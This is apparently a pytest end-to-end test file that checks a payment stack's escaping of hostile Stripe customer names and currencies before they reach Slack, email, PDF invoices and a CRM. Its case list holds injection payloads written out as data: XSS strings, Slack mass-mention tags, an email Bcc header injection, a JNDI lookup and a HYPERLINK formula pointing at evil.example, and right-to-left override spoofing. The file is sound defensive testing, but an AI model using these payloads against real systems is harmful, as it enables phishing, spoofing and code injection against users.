"""Hostile content in accepted events, end to end: what Slack, SES, the PDF and the CRM received.

An event's fields come from whoever created the customer or the payment. Each case is a signed Stripe
payment whose customer name (or currency) is hostile; the stack processes all of them at once, and
every sink's copy is checked against that sink's rule (chalicelib/display.py), from the outside.
"""

from __future__ import annotations

import time
import unicodedata
from typing import Any

import boto3
import pytest

from fila.local.running import Stack
from tests.e2e.test_ingest_e2e import event_status
from tests.e2e.test_processing import deliver, emails, payment, pdf_text, received, wait_for
from tests.signing import stripe_delivery

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("stack")]  # one worker: one session stack

# (case, customer name, what must not reach Slack as written, what Slack shows instead)
CASES: list[tuple[str, str, str | None, str | None]] = [
    ("channel mention", "<!channel>", "<!channel>", "&lt;!channel&gt;"),
    ("here mention with label", "<!here|here>", "<!here", "&lt;!here|here&gt;"),
    ("user mention", "<@U024BE7LH>", "<@U024BE7LH>", "&lt;@U024BE7LH&gt;"),
    ("channel link", "<#C0123ABC|general>", "<#C0123ABC", "&lt;#C0123ABC|general&gt;"),
    ("disguised link", "<https://evil.example|Invoice>", "<https://evil.example", "&lt;https://evil.example|Invoice&gt;"),
    ("html image", "<img src=x onerror=\"document.title='pwned'\">", "<img", "&lt;img src=x"),
    ("script", "<script>alert(1)</script>", "<script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("svg", '"><svg onload=alert(1)>', "<svg", "&lt;svg onload=alert(1)&gt;"),
    ("pre-escaped entity", "&lt;!channel&gt;", None, "&amp;lt;!channel&amp;gt;"),
    ("ampersand", "Ada & Co", None, "Ada &amp; Co"),
    ("right-to-left override", "Ada \u202egnp.exe", "\u202e", "Ada gnp.exe"),
    ("bidi isolates", "admin\u2066 evil\u2069", "\u2066", "admin evil"),
    ("zero-width in a mention", "<!chan\u200bnel>", "<!chan", "&lt;!channel&gt;"),
    ("zero-width only", "\u200b\u200b\ufeff", "\u200b", None),
    ("header injection", "Ada\r\nBcc: victim@example.com", "\r\n", "Ada Bcc: victim@example.com"),
    ("control characters", "Ada\x00\x1b[31mred\x07", "\x1b", None),
    ("mrkdwn formatting", "*bold* _it_ ~gone~ `code`", None, "*bold* _it_ ~gone~ `code`"),
    ("emoji and scripts", "Zoë Ŝmith 李小龙 👩\u200d💻", None, "Zoë Ŝmith 李小龙 👩\u200d💻"),
    ("100 kB name", "A" * 100_000, "A" * 200, None),
    ("10 kB word of mentions", "<!channel>" * 1_000, "<!channel>", None),
    ("log4shell-like", "${jndi:ldap://evil.example/a}", None, "${jndi:ldap://evil.example/a}"),
    ("formula", "=HYPERLINK(\"https://evil.example\",\"Pay\")", None, "=HYPERLINK"),
]
RECEIPT_TAGS = 8  # <p> </p> <p> </p> <p><a …> </a></p>: the receipt template's own markup


def _visible_only(text: str) -> bool:
    return not any(unicodedata.category(c) in ("Cc", "Cf") and c not in "\u200c\u200d" for c in text)


@pytest.fixture(scope="module")
def processed(stack: Stack) -> dict[str, dict[str, Any]]:
    """Every case delivered at once and processed to the end; what each sink got, by case."""
    sent: dict[str, tuple[str, str]] = {}
    for case, name, _, _ in CASES:
        event = payment(f"hostile+{time.time_ns()}@example.com")
        event["data"]["object"]["metadata"]["customer_name"] = name
        sent[case] = (deliver(stack, "stripe", *stripe_delivery(event)), event["data"]["object"]["receipt_email"])
    currency = payment(f"currency+{time.time_ns()}@example.com")
    currency["data"]["object"]["currency"] = "<!here>"
    sent["hostile currency"] = (deliver(stack, "stripe", *stripe_delivery(currency)),
                                currency["data"]["object"]["receipt_email"])
    for event_id, _ in sent.values():
        wait_for(lambda e=event_id: event_status(stack, "stripe", e) == "completed", timeout=120)  # type: ignore[misc]
    slack, crm = received(stack, "slack"), received(stack, "crm")
    s3 = boto3.client("s3", endpoint_url=stack.aws)
    out = {}
    for case, (event_id, email) in sent.items():
        pdf = s3.get_object(Bucket="fila-local-documents", Key=f"invoices/stripe/{event_id}/invoice.pdf")["Body"].read()
        out[case] = {"slack": [r["json"]["text"] for r in slack if event_id in r["json"]["text"]],
                     "crm": [r["json"] for r in crm if r["json"]["email"] == email],
                     "emails": emails(stack, email), "pdf": pdf_text(pdf).replace("\\(", "(").replace("\\)", ")")}
    return out


@pytest.mark.parametrize(("case", "name", "forbidden", "shown"), CASES, ids=[c[0] for c in CASES])
def test_slack_gets_escaped_visible_bounded_text(processed: dict[str, Any], case: str, name: str,
                                                 forbidden: str | None, shown: str | None) -> None:
    (text,) = processed[case]["slack"]
    assert "<" not in text and ">" not in text  # fila's template has no markup: none may come from the name
    assert all(text[i:].startswith(("&amp;", "&lt;", "&gt;")) for i, c in enumerate(text) if c == "&")
    assert _visible_only(text) and len(text) < 700
    assert forbidden is None or forbidden not in text
    assert shown is None or shown in text


@pytest.mark.parametrize(("case", "name", "forbidden", "shown"), CASES, ids=[c[0] for c in CASES])
def test_the_receipt_email_escapes_its_html_and_keeps_one_line_subjects(
        processed: dict[str, Any], case: str, name: str, forbidden: str | None, shown: str | None) -> None:
    (mail,) = processed[case]["emails"]
    assert mail["body"].count("<") == RECEIPT_TAGS and mail["body"].count(">") == RECEIPT_TAGS
    assert _visible_only(mail["subject"]) and "\n" not in mail["subject"]
    assert _visible_only(mail["body"]) and len(mail["body"]) < 3000


@pytest.mark.parametrize(("case", "name", "forbidden", "shown"), CASES, ids=[c[0] for c in CASES])
def test_the_pdf_draws_visible_latin_1_text(processed: dict[str, Any], case: str, name: str,
                                            forbidden: str | None, shown: str | None) -> None:
    text = processed[case]["pdf"]
    billed = next(line for line in text.splitlines() if "<hostile+" in line or "<currency+" in line)
    assert _visible_only(billed) and all(ord(c) < 256 for c in billed) and len(billed) < 400
    if name.isascii() and name.isprintable() and len(name) < 100:
        assert name in billed  # drawn as text, as given (a PDF draws no markup)


@pytest.mark.parametrize(("case", "name", "forbidden", "shown"), CASES, ids=[c[0] for c in CASES])
def test_the_crm_gets_the_name_as_data_bounded(processed: dict[str, Any], case: str, name: str,
                                               forbidden: str | None, shown: str | None) -> None:
    (upsert,) = processed[case]["crm"]
    assert upsert["name"] == name[:1000]  # JSON carries it as data; only its length is bounded


def test_a_hostile_currency_is_escaped_in_slack_and_plain_in_the_subject(processed: dict[str, Any]) -> None:
    (text,) = processed["hostile currency"]["slack"]
    (mail,) = processed["hostile currency"]["emails"]
    assert "42.00 &lt;!HERE&gt;" in text and "<" not in text
    assert mail["subject"] == "Your receipt (42.00 <!HERE>)"  # a plain-text field: nothing to escape
    assert "42.00 &lt;!HERE&gt;" in mail["body"]
